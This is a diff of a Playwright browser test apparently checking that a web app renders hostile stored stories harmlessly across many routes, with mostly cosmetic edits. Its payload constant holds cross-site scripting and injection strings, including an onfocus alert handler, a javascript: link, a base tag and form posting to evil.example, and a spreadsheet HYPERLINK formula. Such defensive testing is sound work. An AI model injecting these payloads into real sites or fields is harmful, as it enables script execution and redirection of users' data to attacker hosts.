@@ -6,7 +6,7 @@ from collections.abc import Iterator
 from urllib.parse import quote
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, Request
+from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request
 
 from firsthand.desk import deciding, intake
 from firsthand.report.neutral import neutral
@@ -20,13 +20,13 @@ from .serving import serving
 MORE = (
     "<style>*{display:none!important}</style><base href=https://evil.example/><meta http-equiv=refresh content=0>"
     "<form action=https://evil.example><button autofocus onfocus=alert(1)><math><mtext></form><link rel=stylesheet "
-    "href=//evil.example/x.css>'\"`${alert(1)}\u202ertl\u2066 [a](javascript:alert(1)) =HYPERLINK(\"https://evil.example\")"
+    'href=//evil.example/x.css>\'"`${alert(1)}\u202ertl\u2066 [a](javascript:alert(1)) =HYPERLINK("https://evil.example")'
 )
 HURT = storable(ATTACK + MORE)
 PATHS = (
     "/", "/stories/hostile-1", "/stories/hostile-2", "/stories/hostile-1/beside", "/stories/hostile-1/lineage",
-    "/stories/hostile-1/lineage?at=a1", "/stories/hostile-1/close", "/stories/hostile-1/judge/story/hostile-1", "/sources",
-    "/search?q=ferry", "/work", "/decisions", "/feeds", "/audit",
+    "/stories/hostile-1/lineage?at=a1", "/stories/hostile-1/close", "/stories/hostile-1/judge/story/hostile-1",
+    "/sources", "/search?q=ferry", "/work", "/decisions", "/feeds", "/audit",
 )  # fmt: skip
 
 
@@ -61,8 +61,12 @@ def watched(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
         if not request.url.startswith((address, "data:")):
             wrong.append(f"asked for {request.url}")
 
+    def spoken(dialog: Dialog) -> None:
+        wrong.append(f"dialog {dialog.message}")
+        dialog.dismiss()
+
     page.on("request", asked)
-    page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    page.on("dialog", spoken)
     page.on("pageerror", lambda error: wrong.append(f"error {error}"))
     page.on("console", lambda said: wrong.append(said.text) if "Policy" in said.text else None)
     yield page, wrong
@@ -117,10 +121,11 @@ def _nothing_of_theirs_stands(page: Page, address: str) -> None:
     """No element that only the attack could have made, no script or style but ours, nothing hidden."""
     found = page.evaluate(
         """() => ({
-            made: document.querySelectorAll('iframe, object, embed, base, img, math, form[action*=evil], main style').length,
+            made: document.querySelectorAll('iframe, object, embed, base, img, math, form[action*=evil], style').length,
             scripts: [...document.scripts].map((one) => one.src),
             sheets: [...document.styleSheets].map((one) => one.href),
-            handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some((a) => a.name.startsWith('on'))).length,
+            handlers: [...document.querySelectorAll('*')].filter(
+                (one) => [...one.attributes].some((a) => a.name.startsWith('on'))).length,
             hidden: getComputedStyle(document.body).display,
         })"""
     )
